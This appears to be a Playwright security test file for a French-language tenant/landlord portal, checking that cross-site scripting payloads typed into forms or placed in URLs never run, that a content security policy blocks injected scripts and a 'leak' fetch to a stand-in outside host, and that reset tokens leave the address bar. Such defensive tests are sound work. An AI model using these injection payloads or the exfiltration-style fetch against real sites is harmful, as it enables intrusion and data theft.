import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { startBrowser } from '../support/browser/chromium.ts';
import { visit } from '../support/browser/visitor.ts';

const origin = inject('origin');
let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser.close());

const payloads = [
  '<img src=x onerror="window.ran=1">',
  '"><script>window.ran=1</script>',
  'javascript:window.ran=1',
  '{{constructor.constructor("window.ran=1")()}}',
];

it.each(payloads)('T-PORTAL nothing runs of what is typed, pasted, or stands in the address: %s', async (payload) => {
  const visitor = await visit(browser, `${origin}/landlord`);
  const { page } = visitor;
  await visitor.open(`register?lang=${encodeURIComponent(payload)}&returnTo=${encodeURIComponent(payload)}`);
  for (const field of await page.locator('main input:not([type=radio], [type=checkbox])').all())
    await field.fill(payload);
  await page.locator('main button[type=submit]').click();
  await page.locator('.summary').waitFor();
  await visitor.open(`activate#token=${payload}`);
  await visitor.type('Lien reçu par e-mail', payload);
  await visitor.press('Ouvrir');
  await visitor.page.getByText('Ce texte ne contient pas de lien de notre e-mail.').first().waitFor();
  await visitor.open(encodeURIComponent(payload.replaceAll('/', '')));
  expect(await page.evaluate('window.ran')).toBeUndefined();
  await visitor.leave();
});

it('T-PORTAL a script or a frame that somebody slipped in is refused by the browser', async () => {
  const visitor = await visit(browser, `${origin}/water`);
  await visitor.open();
  const refused = await visitor.page.evaluate(`(() => {
    const tries = {
      markup: () => { document.body.innerHTML = '<img src=x onerror="window.ran=1">'; },
      source: () => { document.createElement('script').src = 'https://elsewhere.example/x.js'; },
    };
    return Object.entries(tries).filter(([, go]) => { try { go(); return false; } catch { return true; } }).map(([name]) => name);
  })()`);
  expect(refused).toEqual(['markup', 'source']);
  const sent = await visitor.page.evaluate(
    `fetch('https://elsewhere.example/?leak').then(() => 'sent', () => 'refused')`,
  );
  expect([sent, await visitor.page.evaluate('window.ran')]).toEqual(['refused', undefined]);
  await visitor.leave();
});

it('T-PORTAL the link’s token leaves the address bar at once and this browser with the tab', async () => {
  const visitor = await visit(browser, `${origin}/water`);
  const token = 'x'.repeat(43);
  await visitor.open(`reset#token=${token}`);
  expect(visitor.page.url()).toBe(`${origin}/water/reset`);
  expect(await visitor.page.evaluate('JSON.stringify(localStorage) + document.cookie')).not.toContain(token);
  await visitor.leave();
});
